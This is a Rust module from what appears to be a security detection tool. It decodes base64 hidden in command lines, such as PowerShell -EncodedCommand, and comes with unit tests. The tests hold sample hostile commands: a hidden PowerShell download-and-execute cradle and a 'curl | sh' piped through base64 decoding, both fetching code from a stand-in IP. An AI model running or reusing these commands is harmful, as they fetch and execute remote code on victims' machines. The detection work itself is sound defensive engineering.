//! Decodes base64 in a command line: `powershell -EncodedCommand`, `FromBase64String`, `base64 -d`.
//!
//! A token counts when its bytes are text, in UTF-16 as PowerShell requires or in UTF-8. Decoding is done once;
//! base64 within the decoded text is left alone.

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Maximum number of bytes of a command line that are searched.
const MAX_COMMAND_BYTES: usize = 1 << 16;
/// Maximum number of tokens of a command line that are tried.
const MAX_TOKENS: usize = 8;
/// Minimum length of a token, in characters. Shorter tokens are words.
const MIN_TOKEN_CHARS: usize = 16;

/// Standard base64, with or without padding, and possibly truncated.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// Returns the decoded text of the command line, if there is any.
pub(super) fn decode_command(command: &str) -> Option<String> {
    let head = command.get(..command.floor_char_boundary(MAX_COMMAND_BYTES))?;
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/');
    let found: Vec<String> = head
        .split(|c| !is_base64(c))
        .filter(|token| token.len() >= MIN_TOKEN_CHARS)
        .take(MAX_TOKENS)
        .filter_map(decode)
        .collect();
    (!found.is_empty()).then(|| found.join(" "))
}

fn decode(token: &str) -> Option<String> {
    // A single character after a group of four is not a byte.
    let whole = token.len() - usize::from(token.len() % 4 == 1);
    let bytes = BASE64.decode(token.get(..whole)?).ok()?;
    let text = utf16(&bytes).or_else(|| String::from_utf8(bytes).ok())?;
    let is_text = |c: char| c.is_ascii_graphic() || c.is_whitespace();
    (text.chars().all(is_text) && text.chars().any(char::is_alphabetic)).then_some(text)
}

/// Decodes little-endian UTF-16 that is mostly ASCII.
fn utf16(bytes: &[u8]) -> Option<String> {
    let (units, _) = bytes.as_chunks::<2>();
    let ascii = units.iter().filter(|[_, high]| *high == 0).count();
    if units.is_empty() || ascii * 10 < units.len() * 9 {
        return None;
    }
    String::from_utf16(
        &units
            .iter()
            .copied()
            .map(u16::from_le_bytes)
            .collect::<Vec<_>>(),
    )
    .ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_in_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn encoded_command_of_powershell_is_decoded() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
        let token = utf16_in_base64(script);
        for command in [
            format!("powershell.exe -nop -w hidden -enc {token}"),
            format!("powershell -e \"{}\"", token.trim_end_matches('=')),
            format!("pwsh /EncodedCommand '{token}'"),
        ] {
            assert_eq!(
                decode_command(&command).as_deref(),
                Some(script),
                "{command}"
            );
        }
    }

    #[test]
    fn base64_of_a_shell_is_decoded() {
        let token =
            base64::engine::general_purpose::STANDARD.encode("curl http://203.0.113.9/x | sh\n");
        assert_eq!(
            decode_command(&format!("echo {token} | base64 -d | bash")).as_deref(),
            Some("curl http://203.0.113.9/x | sh\n")
        );
    }

    #[test]
    fn words_and_paths_are_not_decoded() {
        for command in [
            "/usr/local/sbin/unattended-upgrade --minimal-upgrade-steps",
            "C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL",
            "kubectl get pods --namespace kubernetesdashboard",
            "sha256sum d2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26",
            "-enc",
            "",
        ] {
            assert_eq!(decode_command(command), None, "{command}");
        }
    }
}
